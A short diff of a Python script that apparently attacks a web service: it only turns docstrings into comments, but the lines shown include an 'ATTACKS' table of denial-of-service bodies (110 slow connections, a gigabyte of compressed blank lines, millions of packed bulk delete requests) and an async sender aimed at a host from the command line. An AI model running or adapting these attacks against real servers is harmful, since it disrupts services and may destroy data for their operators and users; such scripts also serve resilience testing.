@@ -11,8 +11,7 @@ import zlib
 from collections.abc import Callable, Mapping
 from urllib.parse import urlsplit
 
-SLOW = 110
-"""Connections at the same time."""
+SLOW = 110  # connections at the same time
 
 
 def packed(line: bytes, size: int) -> bytes:
@@ -60,12 +59,12 @@ async def send_again(host: str, port: int, index: str, body: bytes) -> None:
         await asyncio.sleep(0.2)
 
 
+# What makes the body of each attack.
 ATTACKS: Mapping[str, Callable[[], bytes]] = {
     f"{SLOW} slow connections": bytes,
     "1 GB of packed empty lines": lambda: packed(b"\n", 1_000_000_000),
     "151 KB of packed deletes": lambda: packed(b'{"delete":{"_id":"1"}}\n', 62_000_000),
 }
-"""What makes the body of each attack."""
 
 if __name__ == "__main__":
     where, content = urlsplit(sys.argv[1]), sys.stdin.buffer.read()
